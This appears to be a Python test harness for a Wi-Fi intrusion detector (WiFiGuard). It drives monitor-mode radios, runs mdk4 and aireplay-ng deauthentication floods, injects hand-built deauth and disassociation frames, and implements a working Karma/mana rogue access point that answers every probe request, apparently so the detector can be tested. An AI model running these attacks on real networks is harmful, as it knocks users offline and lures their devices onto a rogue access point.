"""Who does harm: radios in monitor mode, the tools of the trade, and an access point that answers to every name."""

from __future__ import annotations

import ctypes
import select
import socket
import struct
import threading
from collections import deque
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, contextmanager, suppress
from itertools import count
from pathlib import Path

from tests.wifi.guest.points import Point
from tests.wifi.guest.radios import inside, namespace
from tests.wifi.guest.shell import PATIENCE, Failed, background, end, run

# First bytes of frames: management, of these kinds.
DEAUTHENTICATION, DISASSOCIATION = b"\xc0", b"\xa0"
_BEACON = b"\x80"
_PROBE_REQUEST = 0x40
_RETRY = 0x08  # in the second byte: the same frame again
_RADIOTAP = struct.pack("<BBHI", 0, 0, 8, 0)
_ETH_P_ALL = 3
# How many names it goes on to say, and how often it says one, in seconds.
_LOUD, _EVERY = 4, 0.02
_SO_TIMESTAMPNS = 35
_CLONE_NEWNET = 0x40000000


class Radio:
    """A radio in monitor mode on one channel; `laptop`: it stays where the laptop is, and WiFiGuard may listen to it."""

    def __init__(self, number: int, frequency: int, *, laptop: bool = False) -> None:
        self.number = number
        self.name = f"mon{number}"
        self._where = None if laptop else number
        steps = (
            f"ip link set wlan{number} down",
            f"iw phy phy{number} interface add {self.name} type monitor",
            f"ip link set {self.name} up",
            f"iw dev {self.name} set freq {frequency}",
        )
        run(*inside(self._where, "sh", "-c", " && ".join(steps)))

    @contextmanager
    def run(self, program: str, *words: str, last: bool = False) -> Iterator[None]:
        """A tool at work, which takes the monitor interface as its first word or as its `last`."""
        command = (program, *words, self.name) if last else (program, self.name, *words)
        tool = background(f"attack{self.number}", *inside(self._where, *command))
        try:
            yield
        finally:
            end(tool)

    def hear(self, points: int) -> None:
        """Wait until beacons of so many access points came."""
        heard: set[bytes] = set()

        def listen(air: socket.socket) -> None:
            while len(heard) < points:
                raw = air.recv(4096)
                frame = raw[int.from_bytes(raw[2:4], "little") :]
                if frame[:1] == _BEACON:
                    heard.add(frame[16:22])

        self.listen(listen).join(PATIENCE)
        if len(heard) < points:
            raise Failed(f"{len(heard)} access points in the air instead of {points}")

    def goodbyes(self, bssid: str) -> list[float]:
        """When deauthentications and disassociations at this access point were in the air, by the kernel's clock; it grows."""
        name = _raw(bssid)
        found: list[float] = []

        def listen(air: socket.socket) -> None:
            air.setsockopt(socket.SOL_SOCKET, _SO_TIMESTAMPNS, 1)
            # The radio's end is the listener's.
            with suppress(OSError):
                while True:
                    raw, stamps, *_ = air.recvmsg(4096, 64)
                    frame = raw[int.from_bytes(raw[2:4], "little") :]
                    again = len(frame) > 1 and frame[1] & _RETRY
                    if (
                        stamps
                        and frame[:1] in (DEAUTHENTICATION, DISASSOCIATION)
                        and frame[16:22] == name
                        and not again
                    ):
                        seconds, nanoseconds = struct.unpack("qq", stamps[0][2])
                        found.append(seconds + nanoseconds / 1e9)

        self.listen(listen)
        return found

    def listen(self, use: Callable[[socket.socket], None]) -> threading.Thread:
        """Let `use` have a socket to the air, in a thread of its own, which may go over to the radio's namespace for good."""
        ready = threading.Event()

        def work() -> None:
            if self._where is not None:
                with Path("/run/netns", namespace(self._where)).open() as space:
                    ctypes.CDLL(None).setns(space.fileno(), _CLONE_NEWNET)
            with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ETH_P_ALL)) as air:
                air.bind((self.name, 0))
                ready.set()
                use(air)

        thread = threading.Thread(target=work, daemon=True)
        thread.start()
        ready.wait(PATIENCE)
        return thread

    def stop(self) -> None:
        """Hear no more."""
        run(*inside(self._where, "iw", "dev", self.name, "del"), check=False)


class Karma:
    """Answers every directed probe request as if it were the network that is called, and goes on saying it (mana's loud mode).

    A first answer is often too late here: the laptop stays on a channel for thirty milliseconds.
    """

    def __init__(self, radio: Radio, bssid: str = "00:13:37:a5:00:01", channel: int = 6) -> None:
        self._bssid = _raw(bssid)
        self._channel = channel
        self._done = threading.Event()
        self._program = radio.listen(self._run)

    def stop(self) -> None:
        """Fall silent."""
        self._done.set()
        self._program.join(5)

    def _run(self, air: socket.socket) -> None:
        answers: deque[bytes] = deque(maxlen=_LOUD)
        while not self._done.is_set():
            if select.select([air], [], [], _EVERY)[0]:
                raw = air.recv(4096)
                answer = self._answer(raw[int.from_bytes(raw[2:4], "little") :])
                if answer is not None:
                    air.send(_RADIOTAP + answer)
                    if answer not in answers:
                        answers.append(answer)
            elif answers:
                air.send(_RADIOTAP + answers[0])
                answers.rotate()

    def _answer(self, frame: bytes) -> bytes | None:
        if len(frame) < 26 or frame[0] != _PROBE_REQUEST or frame[24] != 0 or not frame[25]:
            return None
        name = frame[24 : 26 + frame[25]]
        head = struct.pack("<HH6s6s6sH", 0x0050, 0, frame[10:16], self._bssid, self._bssid, 0)
        body = struct.pack("<QHH", 0, 100, 0x0401) + name + b"\x01\x04\x82\x84\x8b\x96\x03\x01" + bytes([self._channel])
        return head + body


def mdk4(radio: Radio, point: Point, *more: str) -> AbstractContextManager[None]:
    """Its mode that throws stations off, at the access point's."""
    return radio.run("mdk4", "d", "-B", point.bssid(), "-c", str(point.channel), "-s", "50", *more)


def aireplay(radio: Radio, point: Point, *more: str) -> AbstractContextManager[None]:
    """aireplay-ng at the access point's stations."""
    return radio.run("aireplay-ng", "--deauth", "0", "-D", "-a", point.bssid(), *more, last=True)


@contextmanager
def inject(radio: Radio, kind: bytes, bssid: str, station: str, every: float = 0.05) -> Iterator[None]:
    """A frame every so many seconds from the access point to the station, for tools send both kinds at once or only one."""
    sender, receiver = _raw(bssid), _raw(station)
    reason = b"\x07\x00"
    done = threading.Event()

    def send(air: socket.socket) -> None:
        for number in count():
            if done.wait(every):
                return
            sequence = (number % 4096 << 4).to_bytes(2, "little")
            air.send(_RADIOTAP + kind + bytes(3) + receiver + sender + sender + sequence + reason)

    thread = radio.listen(send)
    try:
        yield
    finally:
        done.set()
        thread.join()


def _raw(address: str) -> bytes:
    return bytes.fromhex(address.replace(":", ""))
